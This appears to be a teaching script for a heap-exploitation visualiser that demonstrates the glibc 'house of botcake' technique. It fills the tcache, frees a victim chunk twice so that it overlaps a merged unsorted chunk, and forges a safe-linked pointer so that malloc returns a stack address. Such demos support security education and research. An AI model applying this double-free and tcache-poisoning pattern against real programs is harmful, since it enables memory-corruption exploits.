# house-of-botcake.hs - attack: a chunk in the tcache and inside a free unsorted chunk.
title "Attack: house of botcake"
x1 = malloc(0x100)
x2 = malloc(0x100)
x3 = malloc(0x100)
x4 = malloc(0x100)
x5 = malloc(0x100)
x6 = malloc(0x100)
x7 = malloc(0x100)
prev = malloc(0x100)
victim = malloc(0x100)
guard = malloc(0x10)
free(x1)
free(x2)
free(x3)
free(x4)
free(x5)
free(x6)
free(x7)
say "Tcache bin 0x110 is full: the next frees of that size go to the unsorted bin."
free(victim)
free(prev)
pause "prev and victim merged into one 0x220 unsorted chunk"
y = malloc(0x100)
free(victim)
pause "victim again: its key field is not the tcache key, so it goes to the tcache while inside the unsorted chunk"
big = malloc(0x120)
say "big overlaps victim: forge victim's safe-linked next to point at a target."
target = 0x7fffffffe000
*(big + 0x110) = (victim >> 12) ^ target
a = malloc(0x100)
t = malloc(0x100)
pause "t is the target on the stack: the technique worked"
